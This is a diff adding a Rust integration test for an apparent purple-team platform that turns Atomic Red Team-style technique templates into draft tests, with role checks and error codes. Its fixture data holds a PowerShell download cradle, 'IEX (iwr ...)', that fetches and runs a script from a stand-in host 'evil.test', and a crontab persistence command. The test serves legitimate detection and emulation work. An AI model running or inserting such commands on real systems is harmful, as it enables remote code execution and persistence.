@@ -9,6 +9,7 @@ use serde_json::{Value, json};
 on_both_backends!(
     the_catalog_lists_filters_and_deactivates_templates,
     admins_write_custom_templates_and_local_fields,
+    tests_start_from_templates,
 );
 
 const BUNDLE: &str = include_str!("../fixtures/attack-mini.json");
@@ -428,5 +429,186 @@ async fn admins_write_custom_templates_and_local_fields(app: TestApp) -> TestApp
             "template.create"
         ]
     );
+    app
+}
+
+async fn tests_start_from_templates(app: TestApp) -> TestApp {
+    let crew = crate::workflow::Crew::hire(&app).await;
+    let db = app.database().await;
+    let files = [
+        ("atomics/T1059.001/T1059.001.yaml", POWERSHELL),
+        ("atomics/T9999/T9999.yaml", FUTURE),
+    ]
+    .into_iter()
+    .map(|(path, text)| AtomicSourceFile {
+        path: path.to_owned(),
+        text: text.to_owned(),
+    })
+    .collect();
+    import_atomics(&db, &Actor::system("test"), files, &|_, _| {})
+        .await
+        .unwrap();
+    db.close().await.unwrap();
+    let page = json_body(app.get("/api/v1/test-templates", &crew.viewer).await).await;
+    let id_of = |technique: &str| {
+        page["items"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|t| t["technique_id"] == technique)
+            .unwrap()["id"]
+            .as_str()
+            .unwrap()
+            .to_owned()
+    };
+    let cradle = id_of("T1059.001");
+
+    // A red tech instantiates it, giving one input argument.
+    let response = app
+        .post_json(
+            "/api/v1/tests/from-template",
+            &crew.red_tech,
+            json!({"template_id": cradle, "input_arguments": {"url": "https://evil.test/x.ps1"}}),
+        )
+        .await;
+    assert_eq!(response.status(), 201);
+    let test = json_body(response).await;
+    assert_eq!(test["state"], "draft");
+    assert_eq!(test["title"], "Download cradle");
+    assert_eq!(test["technique_id"], "T1059.001");
+    assert_eq!(test["template_id"], cradle.as_str());
+    assert_eq!(test["platform"], "windows");
+    assert_eq!(
+        test["command_executed"],
+        "IEX (iwr 'https://evil.test/x.ps1')"
+    );
+    assert_eq!(
+        test["procedure"],
+        "# executor: powershell (elevation required)\nIEX (iwr 'https://evil.test/x.ps1')\n\n# cleanup\nRemove-Item x"
+    );
+    assert_eq!(test["description"], "Downloads and runs a script.");
+    // Defaults fill what is not given.
+    let defaults = json_body(
+        app.post_json(
+            "/api/v1/tests/from-template",
+            &crew.red_lead,
+            json!({"template_id": cradle, "title": "Cradle, defaults", "severity": "critical"}),
+        )
+        .await,
+    )
+    .await;
+    assert_eq!(
+        defaults["command_executed"],
+        "IEX (iwr 'https://example.test/a.ps1')"
+    );
+    assert_eq!(defaults["severity"], "critical");
+    assert_eq!(defaults["title"], "Cradle, defaults");
+    let timeline = json_body(
+        app.get(
+            &format!(
+                "/api/v1/tests/{}/timeline",
+                defaults["id"].as_str().unwrap()
+            ),
+            &crew.viewer,
+        )
+        .await,
+    )
+    .await;
+    assert_eq!(timeline[0]["details"]["template_id"], cradle.as_str());
+
+    // Refusals: unknown argument, unknown technique, roles, missing and inactive templates.
+    let response = app
+        .post_json(
+            "/api/v1/tests/from-template",
+            &crew.red_tech,
+            json!({"template_id": cradle, "input_arguments": {"nope": "x"}}),
+        )
+        .await;
+    assert_eq!(response.status(), 422);
+    assert!(json_body(response).await["fields"]["input_arguments.nope"].is_string());
+    let response = app
+        .post_json(
+            "/api/v1/tests/from-template",
+            &crew.red_tech,
+            json!({"template_id": id_of("T9999")}),
+        )
+        .await;
+    assert_eq!(response.status(), 422);
+    assert!(json_body(response).await["fields"]["technique_id"].is_string());
+    for token in [&crew.blue_tech, &crew.viewer] {
+        let response = app
+            .post_json(
+                "/api/v1/tests/from-template",
+                token,
+                json!({"template_id": cradle}),
+            )
+            .await;
+        assert_eq!(response.status(), 403);
+    }
+    let response = app
+        .post_json(
+            "/api/v1/tests/from-template",
+            &crew.red_tech,
+            json!({"template_id": uuid::Uuid::new_v4()}),
+        )
+        .await;
+    assert_eq!(response.status(), 404);
+    assert_eq!(
+        app.post(
+            &format!("/api/v1/test-templates/{cradle}/toggle-active"),
+            &crew.admin
+        )
+        .await
+        .status(),
+        200
+    );
+    let response = app
+        .post_json(
+            "/api/v1/tests/from-template",
+            &crew.red_tech,
+            json!({"template_id": cradle}),
+        )
+        .await;
+    assert_eq!(response.status(), 409);
+
+    // A custom template's suggested remediation becomes the test's first steps.
+    let custom = json_body(
+        app.post_json(
+            "/api/v1/test-templates",
+            &crew.admin,
+            json!({
+                "technique_id": "T1053",
+                "name": "Cron persistence",
+                "command": "echo '* * * * * /tmp/x' | crontab -",
+                "suggested_tools": ["crontab"],
+                "expected_detection": "auditd rule on crontab",
+                "remediation_steps": ["Alert on crontab edits", "Restrict cron to admins"]
+            }),
+        )
+        .await,
+    )
+    .await;
+    let test = json_body(
+        app.post_json(
+            "/api/v1/tests/from-template",
+            &crew.red_tech,
+            json!({"template_id": custom["id"]}),
+        )
+        .await,
+    )
+    .await;
+    assert_eq!(test["suggested_tools"], json!(["crontab"]));
+    assert_eq!(test["expected_detection"], "auditd rule on crontab");
+    let steps: Vec<&str> = test["remediation_steps"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["title"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        steps,
+        vec!["Alert on crontab edits", "Restrict cron to admins"]
+    );
+    assert_eq!(test["procedure"], "echo '* * * * * /tmp/x' | crontab -");
     app
 }
